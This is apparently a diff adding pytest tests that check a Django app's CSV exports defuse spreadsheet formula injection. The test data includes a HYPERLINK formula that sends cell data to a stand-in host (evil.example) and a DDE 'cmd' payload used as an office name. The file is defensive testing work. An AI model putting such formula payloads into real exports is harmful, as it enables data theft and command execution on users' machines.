@@ -1,0 +1,87 @@
+"""CSV exports cannot smuggle spreadsheet formulas."""
+
+import csv
+import io
+
+import pytest
+
+from criteria.models import Assessment, Entry
+from reports.csvexport import safe_cell, write_rows
+from tests import factories
+
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1",
+    "-1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_safe_cell_prefixes_formula_starters_with_a_quote(text):
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("Plain text", "Plain text"),
+        ("a = b", "a = b"),
+        ("", ""),
+        (None, ""),
+        (3, 3),
+        (-1, -1),
+        (2.5, 2.5),
+        (True, "yes"),
+    ],
+)
+def test_safe_cell_leaves_plain_values_alone(value, expected):
+    assert safe_cell(value) == expected
+
+
+def test_write_rows_neutralises_header_and_cells():
+    out = io.StringIO()
+
+    write_rows(out, ["=A1", "b"], [["-2+3", 4], ["ok", None]])
+
+    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
+        ["'=A1", "b"],
+        ["'-2+3", "4"],
+        ["ok", ""],
+    ]
+
+
+@pytest.mark.django_db
+def test_matrix_csv_neutralises_formulas_typed_into_strengths(report, client):
+    office = factories.make_office(name="@Office")
+    assessment = factories.make_assessment(office, status=Assessment.Status.PUBLISHED)
+    entries = list(assessment.entries.order_by("criterion__number"))
+    for entry, text in zip(entries, DANGEROUS, strict=False):
+        entry.strengths = text
+        entry.opportunities = "=" + text
+    Entry.objects.bulk_update(entries, ["strengths", "opportunities"])
+
+    response = client.get(f"/reports/matrix.csv?cities={office.city.slug}")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))[1:]
+    assert [r[5] for r in rows[: len(DANGEROUS)]] == ["'" + t for t in DANGEROUS]
+    assert [r[6] for r in rows[: len(DANGEROUS)]] == ["'=" + t for t in DANGEROUS]
+    assert {r[1] for r in rows} == {"'@Office"}
+    assert [r[4] for r in rows] == [""] * 9
+    # Nothing in the file starts a cell with a formula character any more.
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+@pytest.mark.django_db
+def test_dashboard_csv_neutralises_office_names(report, client):
+    office = factories.make_office(name="=cmd|'/c calc'!A1")
+    factories.make_assessment(office, status=Assessment.Status.PUBLISHED, levels=[1] * 9)
+
+    response = client.get("/reports/dashboard/heatmap.csv?include_demo=on")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[1][0].startswith("'=cmd")
